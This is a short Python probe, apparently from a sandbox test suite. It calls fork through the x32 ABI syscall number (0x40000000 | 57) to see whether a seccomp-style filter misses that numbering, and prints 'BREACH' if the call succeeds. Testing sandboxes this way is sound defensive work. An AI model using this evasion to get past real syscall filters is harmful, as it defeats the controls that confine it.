# calls the kernel by its numbers for 32-bit pointers, which filters tend to forget
import ctypes
import os

print("tried", flush=True)
if ctypes.CDLL(None).syscall(0x40000000 | 57) >= 0:
    print("BREACH", flush=True)
    os._exit(0)
